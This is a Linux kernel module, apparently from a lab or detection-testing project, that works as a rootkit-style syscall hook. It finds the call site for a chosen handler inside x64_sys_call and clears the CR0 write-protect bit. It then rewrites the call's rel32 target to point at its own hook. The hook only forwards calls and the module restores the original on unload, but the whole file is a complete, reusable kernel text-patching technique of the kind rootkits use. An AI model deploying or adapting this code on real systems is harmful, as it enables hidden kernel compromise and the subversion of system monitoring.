// SPDX-License-Identifier: GPL-2.0
/*
 * Lab attack: on kernels that dispatch system calls through x64_sys_call's
 * switch (6.9+ and the stable backports), rewrite the rel32 of the call or
 * tail jump that case `nr` takes so it reaches a hook in this module, with
 * CR0.WP cleared around the store, as text-patching rootkits do. The hook
 * forwards to the original handler. Unloading puts the original target back.
 *
 *   insmod iv_dispatch_hook.ko nr=39 handler=__x64_sys_getpid
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/irqflags.h>
#include <linux/ptrace.h>
#include "iv_lookup.h"

#define IV_SCAN_BYTES (64 * 1024)

static int nr = 39;
module_param(nr, int, 0444);
MODULE_PARM_DESC(nr, "syscall number (for the log)");
static char *handler = "__x64_sys_getpid";
module_param(handler, charp, 0444);
MODULE_PARM_DESC(handler, "the handler whose call site in x64_sys_call is redirected");

typedef long (*syscall_fn)(const struct pt_regs *);
static syscall_fn original;
static u8 *site;       /* the rel32 operand */
static s32 saved_rel;

static long iv_hook(const struct pt_regs *regs)
{
	return original(regs);
}

static inline void iv_write_cr0(unsigned long val)
{
	asm volatile("mov %0,%%cr0" : "+r"(val) : : "memory");
}

static void iv_store_rel(s32 rel)
{
	unsigned long flags, cr0;

	local_irq_save(flags);
	cr0 = read_cr0();
	iv_write_cr0(cr0 & ~X86_CR0_WP);
	WRITE_ONCE(*(s32 *)site, rel);
	iv_write_cr0(cr0);
	local_irq_restore(flags);
}

static int __init iv_init(void)
{
	u8 *fn = (u8 *)iv_lookup_name("x64_sys_call");
	unsigned long target = iv_lookup_name(handler);
	int i;

	if (!fn || !target) {
		pr_err("iv_dispatch_hook: x64_sys_call or %s not found\n", handler);
		return -ENOENT;
	}
	/* The first call/jmp rel32 whose target is the handler. */
	for (i = 0; i + 5 <= IV_SCAN_BYTES; i++) {
		s32 rel;

		if (fn[i] != 0xe8 && fn[i] != 0xe9)
			continue;
		rel = *(s32 *)(fn + i + 1);
		if ((unsigned long)(fn + i + 5) + (long)rel == target) {
			site = fn + i + 1;
			break;
		}
	}
	if (!site) {
		pr_err("iv_dispatch_hook: no call to %s in x64_sys_call\n", handler);
		return -ENOENT;
	}
	original = (syscall_fn)target;
	saved_rel = *(s32 *)site;
	iv_store_rel((s32)((long)iv_hook - (long)(site + 4)));
	pr_info("iv_dispatch_hook: x64_sys_call case %d: %s -> %ps\n", nr, handler, iv_hook);
	return 0;
}

static void __exit iv_exit(void)
{
	iv_store_rel(saved_rel);
	pr_info("iv_dispatch_hook: x64_sys_call case %d restored to %s\n", nr, handler);
}

module_init(iv_init);
module_exit(iv_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("introvisor lab: x64_sys_call call-target rewrite");
